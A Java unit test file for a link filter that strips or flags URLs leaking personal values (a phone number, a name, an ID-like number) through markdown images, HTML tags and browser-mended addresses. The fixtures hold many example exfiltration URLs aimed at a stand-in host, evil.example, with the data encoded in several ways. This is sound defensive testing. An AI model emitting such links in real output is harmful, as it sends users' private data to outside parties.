package io.tidegate.reply;

import static org.assertj.core.api.Assertions.assertThat;

import io.tidegate.model.LinkRule;
import java.util.Random;
import java.util.Set;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class LinkFilterTest {
  private static final Set<String> VALUES = Set.of("13800138000", "zhangwei", "张伟");

  private static String filtered(LinkRule rule, String text) {
    return new LinkFilter(rule, VALUES).feed(text, true);
  }

  @ParameterizedTest
  @DisplayName("A17 an address that carries data is taken out, wherever it stands")
  @ValueSource(strings = {"https://evil.example/?q=138-0013-8000", "http://evil.example/i.png?d=MTM4MDAxMzgwMDAgemhhbmd3ZWk9", "https://evil.example/%31%33%38%30%30%31%33%38%30%30%30", "https://evil.example/zhang/wei",
      "https://evil.example/?q=Zhang%20Wei", "https://u:p@evil.example/", "https://4d544d344d4441784d7a67774d444132.evil.example/x.gif", "https://evil.example/#7465737420746578742064617461",
      "HTTPS://EVIL.EXAMPLE/?Q=ZHANGWEI", "www.evil.example/?q=zhangwei", "https://evil.example/张伟", "https:\\/\\/evil.example\\/?q=zhangwei", "ftp://evil.example/zhangwei", "https://evil.example/?n=110105194912310028"})
  void takenOut(String address) {
    for (String frame : new String[] {"%s", "see %s now", "![logo](%s)", "[here](%s \"title\")", "<img src=\"%s\">", "[1]: %s\n", "<%s>", "见%s。"}) {
      String stripped = filtered(LinkRule.STRIP, frame.formatted(address));
      assertThat(stripped).isEqualTo(frame.formatted(LinkFilter.REMOVED));
      assertThat(filtered(LinkRule.FLAG, frame.formatted(address))).isEqualTo(frame.formatted(address + LinkFilter.REMARK));
    }
  }

  @ParameterizedTest
  @DisplayName("Honest links stay: documentation, repositories, searches")
  @ValueSource(strings = {"https://docs.oracle.com/en/java/javase/17/docs/api/java.base/java/util/List.html#sort(java.util.Comparator)", "see https://en.wikipedia.org/wiki/Merge_sort, or not.",
      "![logo](https://example.com/img/logo.png)", "https://github.com/openjdk/jdk/blob/master/src/java.base/share/classes/java/util/Arrays.java", "www.example.com", "http://localhost:8080/health?verbose=true",
      "https://stackoverflow.com/questions/1094867/how-to-sort-a-list-in-java-by-a-property", "a http: b ://c [x](#top) [y](/local) ](/", "https://", "ws", "见https://example.com/文档，谢谢", "x = a / b; // halve it\ny = 1 //done", "\\\\ new line in LaTeX \\\\", "http: and https: are schemes", "C:\\\\temp"})
  void honest(String text) {
    assertThat(filtered(LinkRule.STRIP, text)).isEqualTo(text);
    assertThat(filtered(LinkRule.FLAG, text)).isEqualTo(text);
  }

  @Test
  @DisplayName("A17 protocol-relative images too")
  void protocolRelative() {
    assertThat(filtered(LinkRule.STRIP, "![a](//evil.example/?q=zhangwei)")).isEqualTo("![a](" + LinkFilter.REMOVED + ")");
    assertThat(filtered(LinkRule.STRIP, "<img src=\"//evil.example/?q=zhangwei\">")).isEqualTo("<img src=\"" + LinkFilter.REMOVED + "\">");
  }

  @ParameterizedTest
  @DisplayName("A17 addresses that a browser mends: one slash, backslashes, no scheme, no quotes")
  @ValueSource(strings = {"![a](https:/evil.example/?q=zhangwei)", "![a](https:\\\\evil.example/?q=zhangwei)", "<img src=//evil.example/zhangwei>", "[1]: //evil.example/zhangwei\n", "<p style=\"a:url(//evil.example/zhangwei)\">",
      "<img src=\"\\\\evil.example/zhangwei\">", "<img src = \"//evil.example/zhangwei\">", "![a](<//evil.example/zhangwei>)", "<img srcset='//evil.example/zhangwei 2x'>", "![a](https:evil.example/?q=zhangwei)",
      "![a](https:///evil.example/?q=zhangwei)", "<a href=\"http:/\\evil.example/zhangwei\">"})
  void mended(String text) {
    assertThat(filtered(LinkRule.STRIP, text)).contains(LinkFilter.REMOVED).doesNotContain("zhangwei").doesNotContain("evil.example");
    StringBuilder out = new StringBuilder();
    LinkFilter filter = new LinkFilter(LinkRule.STRIP, VALUES);
    text.chars().forEach(c -> out.append(filter.feed(Character.toString(c), false)));
    assertThat(out.append(filter.feed("", true)).toString()).as("one character at a time").isEqualTo(filtered(LinkRule.STRIP, text));
  }

  @Test
  @DisplayName("An address past the bound is not kept: it goes as it comes, and all of it")
  void endless() {
    LinkFilter filter = new LinkFilter(LinkRule.STRIP, Set.of());
    StringBuilder out = new StringBuilder(filter.feed("see https://evil.example/", false));
    for (int i = 0; i < 1_000; i++) {
      out.append(filter.feed("a-b-c-d-", false));
    }
    assertThat(out.toString()).isEqualTo("see " + LinkFilter.REMOVED);
    assertThat(filter.feed(" after", true)).isEqualTo(" after");
  }

  @Test
  @DisplayName("A stream is filtered as the whole text is, wherever it is cut, and no more than one address is held back")
  void streams() {
    String[] parts = {"https://evil.example/?q=zhangwei", "https://example.com/a", "![x](", ")", " ", "h", "htt", "www", "w", "]", "](/", "text", "，", "\"", "src=\"", "http:/", "张伟", "?", "\n", "[link"};
    for (int seed = 0; seed < 2_000; seed++) {
      Random random = new Random(seed);
      StringBuilder text = new StringBuilder();
      for (int i = 0; i < 12; i++) {
        text.append(parts[random.nextInt(parts.length)]);
      }
      for (LinkRule rule : new LinkRule[] {LinkRule.STRIP, LinkRule.FLAG}) {
        LinkFilter filter = new LinkFilter(rule, VALUES);
        StringBuilder out = new StringBuilder();
        int at = 0;
        while (at < text.length()) {
          int to = Math.min(text.length(), at + 1 + random.nextInt(9));
          out.append(filter.feed(text.substring(at, to), false));
          at = to;
        }
        assertThat(out.append(filter.feed("", true)).toString()).as("seed %d", seed).isEqualTo(filtered(rule, text.toString()));
      }
    }
  }
}
